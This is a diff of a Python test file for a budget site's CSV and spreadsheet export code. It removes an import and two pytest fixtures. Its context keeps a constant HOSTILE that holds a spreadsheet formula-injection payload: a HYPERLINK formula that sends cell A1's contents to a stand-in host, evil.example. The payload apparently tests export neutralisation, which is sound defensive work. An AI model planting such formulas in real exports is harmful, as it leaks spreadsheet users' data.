@@ -15,7 +15,6 @@ import openpyxl
 import pytest
 from referencing import Registry, Resource
 
-from budgetsite.collection import load_archive
 from budgetsite.export import build_downloads
 from budgetsite.export.csv import BOM, neutralise, to_csv
 from budgetsite.export.files import SCHEMA_FILES
@@ -28,16 +27,6 @@ from budgetsite.model import Record, schema_fields
 from budgetsite.render.reference import documented_classes
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
-
-
-@pytest.fixture(scope="module")
-def archive(fixture_data: Path):
-    return load_archive(fixture_data)
-
-
-@pytest.fixture(scope="module")
-def downloads(archive):
-    return {d.path: d.content for d in build_downloads(archive)}
 
 
 def read_csv(data: bytes) -> list[list[str]]:
